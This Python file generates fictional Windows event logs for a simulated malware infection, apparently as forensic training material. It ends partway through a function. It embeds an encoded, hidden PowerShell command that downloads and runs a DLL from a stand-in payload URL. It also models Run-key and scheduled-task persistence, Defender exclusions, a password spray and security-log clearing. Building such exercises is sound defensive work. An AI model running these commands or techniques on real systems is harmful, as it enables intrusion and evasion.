"""The event logs of the made-up host, as lists of records for evtxwriter: {file name: [record, …]}."""

import base64

import case_story as s
from case_story import T
from casekit import iso, sha256

CHANNELS = {  # channel: (provider, GUID)
    "sysmon": ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"),
    "security": ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}"),
    "eventlog": ("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"),
    "powershell": ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"),
    "defender": ("Microsoft-Windows-Windows Defender", "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}"),
    "tasks": ("Microsoft-Windows-TaskScheduler", "{de7b24ea-73c8-4a09-985d-5bdadcfa9017}"),
    "services": ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}"),
    "kernel": ("Microsoft-Windows-Kernel-General", "{a68ca8b7-004f-d7b6-a698-07e2de0f1f5d}"),
    "sessions": ("Microsoft-Windows-TerminalServices-LocalSessionManager", "{5d896912-022d-40aa-a3a8-4fa5515c76d7}"),
}
PIDS = {
    s.EXPLORER: 4512,
    s.OUTLOOK: 7188,
    s.EDGE: 8036,
    "excel1": 9204,
    "excel2": 9716,
    "regsvr1": 10012,
    "regsvr2": 10100,
    "regsvr3": 10188,
    "regsvr_dll": 10244,
    "regsvr_dll2": 5120,
    "wscript": 11320,
    "powershell": 11408,
    "rundll": 11516,
    "service": 11732,
}
LOGON, ADMIN_LOGON = 0x2A7C1F, 0x5D30B2
ACCOUNT = f"{s.HOST}\\{s.USER}"


def record(source, channel, event_id, time, **more):
    provider, guid = CHANNELS[source]
    return dict(
        provider=provider, guid=guid, event_id=event_id, time=iso(time), channel=channel, computer=s.HOST, **more
    )


def guid_of(name):
    """A process GUID as Sysmon makes them: machine, start time, a number; here from the name alone."""
    return "{5e07a1c3-" + "-".join(sha256(name.encode())[i:j] for i, j in ((0, 4), (4, 8), (8, 12), (12, 24))) + "}"


def utc(time):
    return iso(time)[:23].replace("T", " ")


def hashes(path):
    return "SHA256=" + sha256(s.stub(path)).upper()


# --------------------------------------------------------------------------------------------------------------- Sysmon


def sysmon(event_id, version, time, data):
    return record(
        "sysmon",
        "Microsoft-Windows-Sysmon/Operational",
        event_id,
        time,
        version=version,
        level=4,
        task=event_id,
        user_sid="S-1-5-18",
        pid=3020,
        tid=4260,
        data=[("RuleName", "-"), *data],
    )


def process_created(
    name, image, command, parent, parent_image, parent_command, directory=None, user=ACCOUNT, level="Medium"
):
    time = T[name]
    return sysmon(
        1,
        5,
        time,
        [
            ("UtcTime", utc(time)),
            ("ProcessGuid", ("guid", guid_of(name))),
            ("ProcessId", ("u32", PIDS[name])),
            ("Image", image),
            ("FileVersion", "-"),
            ("Description", "-"),
            ("Product", "-"),
            ("Company", "-"),
            ("OriginalFileName", image.rsplit("\\", 1)[1].upper()),
            ("CommandLine", command),
            ("CurrentDirectory", directory or s.PROFILE + "\\Documents\\"),
            ("User", user),
            ("LogonGuid", ("guid", guid_of("logon"))),
            ("LogonId", ("hex64", LOGON)),
            ("TerminalSessionId", ("u32", 1)),
            ("IntegrityLevel", level),
            ("Hashes", hashes(image)),
            ("ParentProcessGuid", ("guid", guid_of(parent))),
            ("ParentProcessId", ("u32", PIDS[parent])),
            ("ParentImage", parent_image),
            ("ParentCommandLine", parent_command),
            ("ParentUser", user),
        ],
    )


def file_created(time, process, image, target):
    return sysmon(
        11,
        2,
        time,
        [
            ("UtcTime", utc(time)),
            ("ProcessGuid", ("guid", guid_of(process))),
            ("ProcessId", ("u32", PIDS[process])),
            ("Image", image),
            ("TargetFilename", target),
            ("CreationUtcTime", utc(time)),
            ("User", ACCOUNT),
        ],
    )


def stream_created(time, process, image, target, contents, sha):
    return sysmon(
        15,
        2,
        time,
        [
            ("UtcTime", utc(time)),
            ("ProcessGuid", ("guid", guid_of(process))),
            ("ProcessId", ("u32", PIDS[process])),
            ("Image", image),
            ("TargetFilename", target),
            ("CreationUtcTime", utc(time)),
            ("Hash", "SHA256=" + sha.upper()),
            ("Contents", contents.replace("\r\n", "  ").strip()),
            ("User", ACCOUNT),
        ],
    )


def value_set(time, process, image, target, details, user=ACCOUNT):
    return sysmon(
        13,
        2,
        time,
        [
            ("EventType", "SetValue"),
            ("UtcTime", utc(time)),
            ("ProcessGuid", ("guid", guid_of(process))),
            ("ProcessId", ("u32", PIDS[process])),
            ("Image", image),
            ("TargetObject", target),
            ("Details", details),
            ("User", user),
        ],
    )


def connected(time, process, image, address, port, source_port):
    return sysmon(
        3,
        5,
        time,
        [
            ("UtcTime", utc(time)),
            ("ProcessGuid", ("guid", guid_of(process))),
            ("ProcessId", ("u32", PIDS[process])),
            ("Image", image),
            ("User", ACCOUNT),
            ("Protocol", "tcp"),
            ("Initiated", True),
            ("SourceIsIpv6", False),
            ("SourceIp", s.HOST_IP),
            ("SourceHostname", s.HOST),
            ("SourcePort", ("u16", source_port)),
            ("SourcePortName", "-"),
            ("DestinationIsIpv6", False),
            ("DestinationIp", address),
            ("DestinationHostname", "-"),
            ("DestinationPort", ("u16", port)),
            ("DestinationPortName", "-"),
        ],
    )


def dns_query(time, process, image, name, result):
    return sysmon(
        22,
        5,
        time,
        [
            ("UtcTime", utc(time)),
            ("ProcessGuid", ("guid", guid_of(process))),
            ("ProcessId", ("u32", PIDS[process])),
            ("QueryName", name),
            ("QueryStatus", "0"),
            ("QueryResults", result),
            ("Image", image),
            ("User", ACCOUNT),
        ],
    )


EXCEL_COMMANDS = {"excel1": f'"{s.EXCEL}" "{s.DOWNLOAD_DOC}"', "excel2": f'"{s.EXCEL}" "{s.TEMPLATE_DOC}"'}
EXPLORER_COMMAND = r"C:\Windows\Explorer.EXE"
REGSVR_COMMANDS = {f"regsvr{i}": f"C:\\Windows\\System32\\regsvr32.exe /S ..\\oxnv{i}.ooccxx" for i in (1, 2, 3)}
SCRIPT_TEXT = (
    f"$u='{s.PAYLOAD_URL}';$d=\"$env:APPDATA\\Vuhqiwf\\tidokp3.dll\"\r\n"
    'New-Item -ItemType Directory -Force "$env:APPDATA\\Vuhqiwf" | Out-Null\r\n'
    "Invoke-WebRequest -Uri $u -OutFile $d -UseBasicParsing\r\n"
    'Start-Process rundll32.exe -ArgumentList "`"$d`",#1 --ihpuku=`"BrickHero\\license.dat`""\r\n'
)
ENCODED = base64.b64encode(SCRIPT_TEXT.encode("utf-16-le")).decode()
POWERSHELL_COMMAND = f'"{s.POWERSHELL}" -NoP -W Hidden -Enc {ENCODED}'
WSCRIPT_COMMAND = f'"{s.WSCRIPT}" "{s.SCRIPT}"'
PROCESSES = [  # name, image, command line, parent, parent's image, parent's command line
    ("excel1", s.EXCEL, EXCEL_COMMANDS["excel1"], s.EXPLORER, s.EXPLORER, EXPLORER_COMMAND),
    ("excel2", s.EXCEL, EXCEL_COMMANDS["excel2"], s.EXPLORER, s.EXPLORER, EXPLORER_COMMAND),
    *[
        (f"regsvr{i}", s.REGSVR32, REGSVR_COMMANDS[f"regsvr{i}"], "excel2", s.EXCEL, EXCEL_COMMANDS["excel2"])
        for i in (1, 2, 3)
    ],
    ("regsvr_dll", s.REGSVR32, s.DLL_COMMAND, "regsvr3", s.REGSVR32, REGSVR_COMMANDS["regsvr3"]),
    ("regsvr_dll2", s.REGSVR32, s.DLL_COMMAND, s.EXPLORER, s.EXPLORER, EXPLORER_COMMAND),
    ("wscript", s.WSCRIPT, WSCRIPT_COMMAND, "regsvr_dll", s.REGSVR32, s.DLL_COMMAND),
    ("powershell", s.POWERSHELL, POWERSHELL_COMMAND, "wscript", s.WSCRIPT, WSCRIPT_COMMAND),
    (
        "rundll",
        s.RUNDLL32,
        f'"{s.RUNDLL32}" "{s.FOLLOW_DLL}",#1 --ihpuku="BrickHero\\license.dat"',
        "powershell",
        s.POWERSHELL,
        POWERSHELL_COMMAND,
    ),
]


def caller(time):
    """Which process called out: the one of the infection, or the one that the Run value started at the next logon."""
    return "regsvr_dll" if time < T["regsvr_dll2"] else "regsvr_dll2"


def sysmon_log(document):
    run_key = f"HKU\\{s.SID}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion"
    out = [process_created(*process) for process in PROCESSES]
    out += [
        file_created(T["mail_saved"], s.OUTLOOK, s.OUTLOOK, s.MAIL_DOC),
        stream_created(
            T["mail_saved"] + 20_117, s.OUTLOOK, s.OUTLOOK, s.MAIL_DOC + ":Zone.Identifier", s.ZONE_MAIL, document
        ),
        stream_created(
            T["download"] + 15_003, s.EDGE, s.EDGE, s.DOWNLOAD_DOC + ":Zone.Identifier", s.ZONE_DOWNLOAD, document
        ),
        dns_query(T["drop1"] - 6_100_233, "excel2", s.EXCEL, "www.example.test", "::ffff:192.0.2.80;"),
        *[file_created(T[f"drop{i}"], "excel2", s.EXCEL, s.DROPPERS[i - 1]) for i in (1, 2, 3, 4)],
        file_created(T["dll_created"], "regsvr3", s.REGSVR32, s.DLL),
        value_set(T["run_value"], "regsvr_dll", s.REGSVR32, f"{run_key}\\Run\\{s.DLL_NAME}", s.DLL_COMMAND),
        file_created(T["script_created"], "regsvr_dll", s.REGSVR32, s.SCRIPT),
        file_created(T["follow_created"], "powershell", s.POWERSHELL, s.FOLLOW_DLL),
        value_set(T["run_once"], "rundll", s.RUNDLL32, f"{run_key}\\RunOnce\\wjcnmqh", s.FOLLOW_COMMAND),
        file_created(T["service_dll"], "service", s.REGSVR32, s.SERVICE_DLL),
        value_set(
            T["service"],
            "service",
            s.SYSTEM32 + "\\services.exe",
            f"HKLM\\System\\CurrentControlSet\\Services\\{s.SERVICE}\\ImagePath",
            s.SERVICE_COMMAND,
            "NT AUTHORITY\\SYSTEM",
        ),
    ]
    out += [
        connected(time, caller(time), s.REGSVR32, address, port, 49_812 + i * 7)
        for i, (time, (address, port)) in enumerate(s.C2_CALLS)
    ]
    return out


# ------------------------------------------------------------------------------------------------------------- Security
NO_GUID = ("guid", "{00000000-0000-0000-0000-000000000000}")


def security(event_id, time, task, data, version=0, failure=False):
    return record(
        "security",
        "Security",
        event_id,
        time,
        version=version,
        level=0,
        task=task,
        pid=4 if event_id == 5156 else 716,
        tid=760,
        keywords=0x8010000000000000 if failure else 0x8020000000000000,
        data=data,
    )


def subject(sid, user, domain, logon):
    return [
        ("SubjectUserSid", ("sid", sid)),
        ("SubjectUserName", user),
        ("SubjectDomainName", domain),
        ("SubjectLogonId", ("hex64", logon)),
    ]


SYSTEM = subject("S-1-5-18", s.HOST + "$", s.WORKGROUP, 0x3E7)
TANAKA = subject(s.SID, s.USER, s.HOST, LOGON)
ADMIN = subject(s.ADMIN_SID, s.ADMIN, s.HOST, ADMIN_LOGON)


def logon(
    time,
    sid,
    user,
    logon_id,
    kind,
    process="User32 ",
    package="Negotiate",
    address="127.0.0.1",
    station=s.HOST,
    by=SYSTEM,
):
    return security(
        4624,
        time,
        12544,
        [
            *by,
            ("TargetUserSid", ("sid", sid)),
            ("TargetUserName", user),
            ("TargetDomainName", s.HOST),
            ("TargetLogonId", ("hex64", logon_id)),
            ("LogonType", ("u32", kind)),
            ("LogonProcessName", process),
            ("AuthenticationPackageName", package),
            ("WorkstationName", station),
            ("LogonGuid", NO_GUID),
            ("TransmittedServices", "-"),
            ("LmPackageName", "-"),
            ("KeyLength", ("u32", 0)),
            ("ProcessId", ("hex64", 0x2CC)),
            ("ProcessName", s.SYSTEM32 + "\\svchost.exe"),
            ("IpAddress", address),
            ("IpPort", "0"),
            ("ImpersonationLevel", "%%1833"),
            ("RestrictedAdminMode", "-"),
            ("TargetOutboundUserName", "-"),
            ("TargetOutboundDomainName", "-"),
            ("VirtualAccount", "%%1843"),
            ("TargetLinkedLogonId", ("hex64", 0)),
            ("ElevatedToken", "%%1842"),
        ],
        version=2,
    )


def logon_failed(time, user, address, station, port):
    return security(
        4625,
        time,
        12544,
        [
            *subject("S-1-0-0", "-", "-", 0),
            ("TargetUserSid", ("sid", "S-1-0-0")),
            ("TargetUserName", user),
            ("TargetDomainName", station),
            ("Status", ("hex32", 0xC000006D)),
            ("FailureReason", "%%2313"),
            ("SubStatus", ("hex32", 0xC000006A)),
            ("LogonType", ("u32", 3)),
            ("LogonProcessName", "NtLmSsp "),
            ("AuthenticationPackageName", "NTLM"),
            ("WorkstationName", station),
            ("TransmittedServices", "-"),
            ("LmPackageName", "-"),
            ("KeyLength", ("u32", 0)),
            ("ProcessId", ("hex64", 0)),
            ("ProcessName", "-"),
            ("IpAddress", address),
            ("IpPort", str(port)),
        ],
        failure=True,
    )


def process_4688(name, image, command, parent, parent_image, _):
    return security(
        4688,
        T[name] - 3_117,
        13312,
        [
            *TANAKA,
            ("NewProcessId", ("hex64", PIDS[name])),
            ("NewProcessName", image),
            ("TokenElevationType", "%%1938"),
            ("ProcessId", ("hex64", PIDS[parent])),
            ("CommandLine", command),
            ("TargetUserSid", ("sid", "S-1-0-0")),
            ("TargetUserName", "-"),
            ("TargetDomainName", "-"),
            ("TargetLogonId", ("hex64", 0)),
            ("ParentProcessName", parent_image),
            ("MandatoryLabel", ("sid", "S-1-16-8192")),
        ],
        version=2,
    )


def permitted(i):
    """The filtering platform's record of one call to a command server."""
    time, (address, port) = s.C2_CALLS[i]
    return security(
        5156,
        time + 4_113,
        12810,
        [
            ("ProcessID", ("u64", PIDS[caller(time)])),
            ("Application", s.device(s.REGSVR32).lower()),
            ("Direction", "%%14593"),
            ("SourceAddress", s.HOST_IP),
            ("SourcePort", str(49_812 + i * 7)),
            ("DestAddress", address),
            ("DestPort", str(port)),
            ("Protocol", ("u32", 6)),
            ("FilterRTID", ("u64", 74_112)),
            ("LayerName", "%%14611"),
            ("LayerRTID", ("u64", 48)),
            ("RemoteUserID", ("sid", "S-1-0-0")),
            ("RemoteMachineID", ("sid", "S-1-0-0")),
        ],
        version=1,
    )


def task_xml(date="2022-11-02T18:15:02"):
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n'
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>\r\n'
        f"    <Date>{date}</Date>\r\n    <Author>{ACCOUNT}</Author>\r\n    <URI>{s.TASK}</URI>\r\n  </RegistrationInfo>\r\n"
        "  <Triggers>\r\n    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>PT1H</Interval>\r\n"
        "        <StopAtDurationEnd>false</StopAtDurationEnd>\r\n      </Repetition>\r\n"
        "      <StartBoundary>2022-11-02T18:15:00</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n"
        "    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n"
        f"      <UserId>{ACCOUNT}</UserId>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n"
        f'    <Principal id="Author">\r\n      <UserId>{s.SID}</UserId>\r\n      <LogonType>InteractiveToken</LogonType>\r\n'
        "      <RunLevel>LeastPrivilege</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Settings>\r\n"
        '    <Hidden>true</Hidden>\r\n    <Enabled>true</Enabled>\r\n  </Settings>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n'
        "      <Command>rundll32.exe</Command>\r\n      <Arguments>"
        + s.FOLLOW_COMMAND.split(" ", 1)[1].replace("&", "&amp;").replace('"', "&quot;")
        + "</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>\r\n"
    )


def security_logs():
    """The archived log up to 09:31, and the log that was cleared at 09:41."""
    day = 864_000_000_000
    old = [
        logon(T["boot"] - k * day + 41_330_117, "S-1-5-18", "SYSTEM", 0x3E7, 5, "Advapi  ", station="-", address="-")
        for k in range(12, -1, -1)
    ]
    old += [
        logon(T["logon"] - k * day + k * 77_123_411, s.SID, s.USER, LOGON if k == 0 else LOGON - k * 0x11357, 2)
        for k in (9, 8, 5, 4, 2, 1, 0)
    ]
    old += [process_4688(*process) for process in PROCESSES if T[process[0]] < T["archived"]]
    old.append(
        security(
            4648,
            T["consent"],
            12544,
            [
                *TANAKA,
                ("LogonGuid", NO_GUID),
                ("TargetUserName", s.ADMIN),
                ("TargetDomainName", s.HOST),
                ("TargetLogonGuid", NO_GUID),
                ("TargetServerName", "localhost"),
                ("TargetInfo", "localhost"),
                ("ProcessId", ("hex64", 0x1B58)),
                ("ProcessName", s.SYSTEM32 + "\\consent.exe"),
                ("IpAddress", "::1"),
                ("IpPort", "0"),
            ],
        )
    )
    old += [permitted(i) for i, (time, _) in enumerate(s.C2_CALLS) if time < T["archived"]]
    old.append(
        security(
            4698,
            T["task"],
            12804,
            [
                *TANAKA,
                ("TaskName", s.TASK),
                ("TaskContent", task_xml()),
                ("ClientProcessStartKey", ("u64", 2251799813685261)),
                ("ClientProcessId", ("u32", PIDS["rundll"])),
                ("ParentProcessId", ("u32", PIDS["powershell"])),
                ("RpcCallClientLocality", ("u32", 0)),
                ("FQDN", s.HOST),
            ],
            version=1,
        )
    )
    old.append(
        security(
            4648,
            T["runas"],
            12544,
            [
                *TANAKA,
                ("LogonGuid", NO_GUID),
                ("TargetUserName", s.ADMIN),
                ("TargetDomainName", s.HOST),
                ("TargetLogonGuid", NO_GUID),
                ("TargetServerName", s.FILE_SERVER),
                ("TargetInfo", s.FILE_SERVER),
                ("ProcessId", ("hex64", PIDS["rundll"])),
                ("ProcessName", s.RUNDLL32),
                ("IpAddress", "-"),
                ("IpPort", "-"),
            ],
        )
    )
    old.append(logon(T["runas"] + 21_004_113, s.ADMIN_SID, s.ADMIN, ADMIN_LOGON, 2, "seclogo", by=TANAKA))
    old.append(
        security(
            4672,
            T["runas"] + 21_004_902,
            12548,
            [
                *ADMIN,
                (
                    "PrivilegeList",
                    "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege",
                ),
            ],
        )
    )
    names = [
        "administrator",
        "admin",
        "suzuki",
        "sato.keiko",
        "backup",
        "scan",
        "tanaka.yuki",
        "guest",
        "test",
        "mfp",
        "yamada",
        "it",
    ]
    old += [
        logon_failed(T["spray"] + i * 12_117_733, names[i % 12], s.OTHER_IP, "EIGYO-PC03", 51_200 + i)
        for i in range(24)
    ]

    new = [
        record(
            "eventlog",
            "Security",
            1102,
            T["log_cleared"],
            level=4,
            task=104,
            keywords=0x4020000000000000,
            pid=1288,
            tid=5312,
            user_data=(
                "LogFileCleared",
                "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
                [
                    ("SubjectUserSid", ("sid", s.ADMIN_SID)),
                    ("SubjectUserName", s.ADMIN),
                    ("SubjectDomainName", s.HOST),
                    ("SubjectLogonId", ("hex64", ADMIN_LOGON)),
                ],
            ),
        )
    ]
    new += [
        logon(T["reset"] + k * day // 2, "S-1-5-18", "SYSTEM", 0x3E7, 5, "Advapi  ", station="-", address="-")
        for k in range(4)
    ]
    new += [permitted(i) for i, (time, _) in enumerate(s.C2_CALLS) if time > T["log_cleared"]]
    new.append(logon(T["relogon"], s.SID, s.USER, LOGON, 2))
    new += [process_4688(*process) for process in PROCESSES if T[process[0]] > T["log_cleared"]]
    new.append(logon(T["admin_logon"], s.ADMIN_SID, s.ADMIN, 0x91A0C4, 2))
    new.append(
        security(
            4672,
            T["admin_logon"] + 611,
            12548,
            [
                *subject(s.ADMIN_SID, s.ADMIN, s.HOST, 0x91A0C4),
                ("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege"),
            ],
        )
    )
    return old, new


# --------------------------------------------------------------------------------------------------------- other channels


def system_log():
    out = []
    for name, event_id, task in (
        ("store_room_off", 13, 2),
        ("store_room_on", 12, 1),
        ("boot", 12, 1),
        ("shutdown", 13, 2),
    ):
        data = (
            [("StopTime", ("filetime", iso(T[name])))]
            if event_id == 13
            else [
                ("MajorVersion", ("u32", 10)),
                ("MinorVersion", ("u32", 0)),
                ("BuildVersion", ("u32", 19041)),
                ("QfeVersion", ("u32", 2193)),
                ("ServiceVersion", ("u32", 0)),
                ("BootMode", ("u32", 0)),
                ("StartTime", ("filetime", iso(T[name]))),
            ]
        )
        out.append(
            record(
                "kernel",
                "System",
                event_id,
                T[name] + 1_113,
                level=4,
                task=task,
                user_sid="S-1-5-18",
                pid=4,
                tid=8,
                data=data,
            )
        )
    for name, event_id in (("store_room_off", 6006), ("store_room_on", 6005), ("boot", 6005), ("shutdown", 6006)):
        out.append(
            dict(
                provider="EventLog",
                event_id=event_id,
                qualifiers=0x8000,
                level=4,
                channel="System",
                computer=s.HOST,
                time=iso(T[name] + (2_224_119 if event_id == 6005 else -3_100_442)),
                data=[],
                binary=b"\xe6\x07\x0b\0",
            )
        )

    def service(event_id, time, data):
        return record(
            "services",
            "System",
            event_id,
            time,
            event_source_name="Service Control Manager",
            qualifiers=0x4000,
            level=4,
            keywords=0x8080000000000000,
            user_sid=s.ADMIN_SID if event_id == 7045 else None,
            pid=700,
            tid=2516,
            data=data,
        )

    names = [
        "Windows Update",
        "Background Intelligent Transfer Service",
        "Print Spooler",
        "WMI Performance Adapter",
        "Software Protection",
        "Windows Modules Installer",
        "Microsoft Account Sign-in Assistant",
        "Windows Search",
    ]
    for i in range(40):
        out.append(
            service(
                7036,
                T["boot"] - 6 * 864_000_000_000 + i * 143_917_733_117 + i * i * 11_939,
                [("param1", names[i % 8]), ("param2", "running" if i % 2 == 0 else "stopped")],
            )
        )
    out.append(
        service(
            7045,
            T["service"],
            [
                ("ServiceName", s.SERVICE),
                ("ImagePath", s.SERVICE_COMMAND),
                ("ServiceType", "user mode service"),
                ("StartType", "auto start"),
                ("AccountName", "LocalSystem"),
            ],
        )
    )
    return out


def application_log():
    out = []
    for i, (product, text) in enumerate(
        (
            ("Microsoft Office Professional Plus 2019 - ja-jp", "16.0.10392.20029"),
            ("Lhaplus", "1.74"),
            ("弥生会計 21", "27.1.1"),
            ("7-Zip 19.00 (x64)", "19.00.00.0"),
        )
    ):
        out.append(
            dict(
                provider="MsiInstaller",
                event_id=11707,
                level=4,
                channel="Application",
                computer=s.HOST,
                user_sid=s.ADMIN_SID,
                time=iso(s.INSTALL + (i + 1) * 913_552_117_733),
                data=[
                    (None, f"Product: {product} -- Installation completed successfully."),
                    (None, "(NULL)"),
                    (None, text),
                ],
            )
        )
    out.append(
        dict(
            provider="Application Error",
            event_id=1000,
            level=2,
            task=100,
            channel="Application",
            computer=s.HOST,
            time=iso(T["regsvr2"] + 5_119_004),
            data=[
                (None, text)
                for text in (
                    "regsvr32.exe",
                    "10.0.19041.1",
                    "9f4b8e1d",
                    "oxnv2.ooccxx",
                    "0.0.0.0",
                    "00000000",
                    "c0000005",
                    "0000000000001337",
                    "2774",
                    "01d8ee98f2a1b3c4",
                    s.REGSVR32,
                    s.DROPPERS[1],
                    "5b1f8a52-2f1e-4c7a-9a5d-0e7c3b2a1d90",
                )
            ],
        )
    )
    return out


def defender_log():
    product = [("Product Name", "Microsoft Defender Antivirus"), ("Product Version", "4.18.2210.4")]

    def event(event_id, time, level, data):
        return record(
            "defender",
            "Microsoft-Windows-Windows Defender/Operational",
            event_id,
            time,
            level=level,
            user_sid="S-1-5-18",
            pid=3388,
            tid=6044,
            data=[*product, *data],
        )

    def threat(
        event_id, time, detected, level, detection, path, source, process, user, action, error, status, remediation
    ):
        return event(
            event_id,
            time,
            level,
            [
                ("Detection ID", detection),
                ("Detection Time", iso(detected)[:23] + "Z"),
                ("Unused", ""),
                ("Unused2", ""),
                ("Threat ID", "2147852271"),
                ("Threat Name", "Trojan:Win64/Emotet!MTB"),
                ("Severity ID", "5"),
                ("Severity Name", "Severe"),
                ("Category ID", "8"),
                ("Category Name", "Trojan"),
                (
                    "FWLink",
                    "https://go.microsoft.com/fwlink/?linkid=37020&name=Trojan:Win64/Emotet!MTB&threatid=2147852271&enterprise=0",
                ),
                ("Status Code", status),
                ("Status Description", ""),
                ("State", "1" if event_id == 1116 else "2"),
                ("Source ID", source[0]),
                ("Source Name", source[1]),
                ("Process Name", process),
                ("Detection User", user),
                ("Unused3", ""),
                ("Path", "file:_" + path),
                ("Origin ID", "1"),
                ("Origin Name", "Local machine"),
                ("Execution ID", "1"),
                ("Execution Name", "Suspended"),
                ("Type ID", "0"),
                ("Type Name", "Concrete"),
                ("Pre Execution Status", "0"),
                ("Action ID", action[0]),
                ("Action Name", action[1]),
                ("Unused4", ""),
                ("Error Code", error[0]),
                ("Error Description", error[1]),
                ("Unused5", ""),
                ("Post Clean Status", "0"),
                ("Additional Actions ID", "0"),
                ("Additional Actions String", "No additional actions required"),
                ("Remediation User", remediation),
                ("Unused6", ""),
                ("Security intelligence Version", "AV: 1.377.1180.0, AS: 1.377.1180.0"),
                ("Engine Version", "AM: 1.1.19700.3, NIS: 1.1.19700.3"),
            ],
        )

    live, scan = ("3", "Real-Time Protection"), ("2", "System")
    none, quarantine = ("9", "Not Applicable"), ("2", "Quarantine")
    ok = ("0x00000000", "The operation completed successfully. ")
    failed = ("0x80070020", "The process cannot access the file because it is being used by another process. ")
    first, second = "{9C1E0B7A-55D3-4F8E-A2C6-70B1D94E3F12}", "{E3A7F2D1-08BC-4B6D-9F45-12C6A8D07B53}"
    exclusion = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\"
    return [
        event(
            2000,
            T["boot"] + 1_877_400_213,
            4,
            [
                ("Current security intelligence Version", "1.377.1164.0"),
                ("Previous security intelligence Version", "1.377.1090.0"),
            ],
        ),
        threat(
            1116, T["av_detected"], T["av_detected"], 3, first, s.DROPPERS[3], live, s.EXCEL, ACCOUNT, none, ok, "1", ""
        ),
        threat(
            1117,
            T["av_acted"],
            T["av_detected"],
            4,
            first,
            s.DROPPERS[3],
            live,
            s.EXCEL,
            ACCOUNT,
            quarantine,
            ok,
            "3",
            "NT AUTHORITY\\SYSTEM",
        ),
        event(5007, T["exclusion"], 4, [("Old Value", ""), ("New Value", exclusion + s.ROAMING + "\\Vuhqiwf = 0x0")]),
        event(
            5007,
            T["exclusion"] + 3_410_227,
            4,
            [("Old Value", ""), ("New Value", exclusion + s.SYSTEM32 + "\\" + s.SERVICE_DIR + " = 0x0")],
        ),
        threat(
            1116,
            T["scan_detected"],
            T["scan_detected"],
            3,
            second,
            s.DLL,
            scan,
            "Unknown",
            "NT AUTHORITY\\SYSTEM",
            none,
            ok,
            "1",
            "",
        ),
        threat(
            1119,
            T["scan_failed"],
            T["scan_detected"],
            2,
            second,
            s.DLL,
            scan,
            "Unknown",
            "NT AUTHORITY\\SYSTEM",
            quarantine,
            failed,
            "102",
            "NT AUTHORITY\\SYSTEM",
        ),
    ]


def powershell_logs():
    host = f"HostApplication={s.POWERSHELL} -NoP -W Hidden -Enc {ENCODED}"
    block = "8d2f6b1c-40e7-4c39-9a5b-7e13c0f2a964"
    operational = [
        record(
            "powershell",
            "Microsoft-Windows-PowerShell/Operational",
            40961,
            T["powershell"] + 1_220_117,
            level=4,
            task=4,
            opcode=1,
            user_sid=s.SID,
            pid=PIDS["powershell"],
            tid=11_412,
            data=[],
        ),
        record(
            "powershell",
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            T["powershell"] + 3_911_442,
            level=3,
            task=2,
            opcode=15,
            user_sid=s.SID,
            pid=PIDS["powershell"],
            tid=11_412,
            data=[
                ("MessageNumber", ("i32", 1)),
                ("MessageTotal", ("i32", 1)),
                ("ScriptBlockText", SCRIPT_TEXT),
                ("ScriptBlockId", block),
                ("Path", ""),
            ],
        ),
    ]

    def classic(event_id, task, time, data):
        return dict(
            provider="PowerShell",
            event_id=event_id,
            level=4,
            task=task,
            channel="Windows PowerShell",
            computer=s.HOST,
            time=iso(time),
            data=[(None, text) for text in data],
        )

    def context(sequence):
        return (
            f"\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber={sequence}\r\n\r\n\tHostName=ConsoleHost\r\n"
            f"\tHostVersion=5.1.19041.1682\r\n\tHostId=1f0c2b64-7d35-4e4b-8c0a-93b6d1e47f28\r\n\t{host}\r\n\tEngineVersion=5.1.19041.1682\r\n"
            "\tRunspaceId=c2a95e07-6f1b-4d83-b0e2-4a7190d3c586\r\n\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n"
            "\tCommandPath=\r\n\tCommandLine="
        )

    detail = (
        f"\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=17\r\n\r\n\tUserId={ACCOUNT}\r\n\tHostName=ConsoleHost\r\n"
        f"\tHostVersion=5.1.19041.1682\r\n\t{host}\r\n\tPipelineId=1\r\n\tScriptName=\r\n\tCommandLine=Invoke-WebRequest -Uri $u -OutFile $d"
    )
    windows = [
        classic(400, 4, T["powershell"] + 2_003_319, ["Available", "None", context(13)]),
        classic(
            800,
            8,
            T["powershell"] + 60_771_208,
            [
                "Invoke-WebRequest -Uri $u -OutFile $d -UseBasicParsing",
                detail,
                f'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\nParameterBinding(Invoke-WebRequest): name="Uri"; value="{s.PAYLOAD_URL}"\r\n'
                f'ParameterBinding(Invoke-WebRequest): name="OutFile"; value="{s.FOLLOW_DLL}"\r\n',
            ],
        ),
        classic(
            403,
            4,
            T["powershell"] + 148_220_941,
            ["Stopped", "Available", context(19).replace("Available", "Stopped", 1)],
        ),
    ]
    return operational, windows


def task_log():
    def event(event_id, time, task, data):
        return record(
            "tasks",
            "Microsoft-Windows-TaskScheduler/Operational",
            event_id,
            time,
            level=4,
            task=task,
            user_sid="S-1-5-18",
            pid=1404,
            tid=2388,
            data=data,
